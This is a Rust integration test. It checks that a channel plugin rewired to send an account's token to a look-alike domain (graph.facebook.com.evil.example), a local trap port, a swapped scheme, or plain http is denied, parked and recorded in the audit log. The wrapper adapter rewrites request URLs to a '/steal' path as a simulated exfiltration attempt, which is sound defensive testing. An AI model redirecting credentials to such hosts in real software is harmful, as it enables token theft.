//! Case 26 of the corpus: a channel's plugin that has the account's token sent to a look-alike of the provider, to another port, or
//! in plain http. Nothing leaves; the send is parked with the reason, and the attempt stands in the audit.

use std::sync::Arc;

use async_trait::async_trait;
use parking_lot::Mutex;
use pointsman_core::clock::SystemClock;
use pointsman_core::failure::Failure;
use pointsman_core::id::Id;
use pointsman_core::ports::{Account, ChannelAdapter, HttpResponse, Job, Reception, Turn, Webhook};

use crate::flow::conversation::SHOP;
use crate::support::{ANA, Site, eventually};

/// The channel's plugin, but for where its requests go.
struct Crooked {
    inner: Arc<dyn ChannelAdapter>,
    origin: Arc<Mutex<String>>,
}

#[async_trait]
impl ChannelAdapter for Crooked {
    async fn parse(&self, ws: Id, plugin: &str, hook: &Webhook, account: &Account) -> Result<Result<Reception, String>, Failure> {
        self.inner.parse(ws, plugin, hook, account).await
    }
    async fn begin(&self, ws: Id, plugin: &str, job: &Job) -> Result<Turn, Failure> {
        let mut turn = self.inner.begin(ws, plugin, job).await?;
        if let Turn::Exchange { request, .. } = &mut turn {
            request.url = format!("{}/steal", self.origin.lock());
        }
        Ok(turn)
    }
    async fn advance(&self, ws: Id, plugin: &str, job: &Job, state: &str, response: HttpResponse) -> Result<Turn, Failure> {
        self.inner.advance(ws, plugin, job, state, response).await
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_that_is_asked_to_go_astray_stays_and_the_audit_knows_of_it() {
    let mut site = Site::new(&[SHOP]).await;
    // Somebody listens there, and the operator even lets the house speak to it.
    let trap = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let trap_address = trap.local_addr().unwrap().to_string();
    site.allowed.push(trap_address.clone());
    let origin = Arc::new(Mutex::new(String::new()));
    let of = Arc::clone(&origin);
    let host = site
        .host_with(Arc::new(SystemClock), |mut parts| {
            parts.channels = Arc::new(Crooked { inner: parts.channels, origin: of });
            parts
        })
        .await;
    let pinned = site.emulator.url();
    let cases = [
        ("https://graph.facebook.com.evil.example".to_owned(), "denied.credential"),
        (format!("http://{trap_address}"), "denied.credential"),
        (pinned.replace("http://", "https://"), "denied.credential"),
        ("http://graph.facebook.com".to_owned(), "denied.egress"),
    ];
    for (n, (to, code)) in cases.iter().enumerate() {
        origin.lock().clone_from(to);
        for _ in 0..2 {
            site.emulator.say(ANA, "Ana", "hello").await.unwrap();
        }
        let parked = eventually("both sends are parked", || {
            let parked = site.done(&["park", "list", "--code", code]);
            let before = cases[..n].iter().filter(|(_, other)| other == code).count() * 2;
            (parked.as_array()?.len() == before + 2).then_some(parked)
        })
        .await;
        assert!(parked[0]["reason"]["message"].as_str().is_some(), "{parked}");
        let told = |line: &str| line.starts_with(&format!("pointsman/whatsapp {code}: "));
        let denied = async || {
            let lines = host.store().audit_lines(pointsman::wiring::FIRST_WORKSPACE, 500).await.unwrap();
            lines.into_iter().filter(|l| l.action == "plugin.deny").map(|l| l.detail).collect::<Vec<_>>()
        };
        host.idle().await;
        let audit = denied().await;
        // Each thing once: two sends went there.
        assert!(audit.len() == n + 1 && told(&audit[0]), "{to}: {audit:?}");
    }
    assert!(site.emulator.taken().is_empty());
    let nobody = tokio::time::timeout(std::time::Duration::from_millis(50), trap.accept()).await;
    assert!(nobody.is_err(), "somebody came to the trap");
    host.idle().await;
    host.stop().await;
    site.books();
}
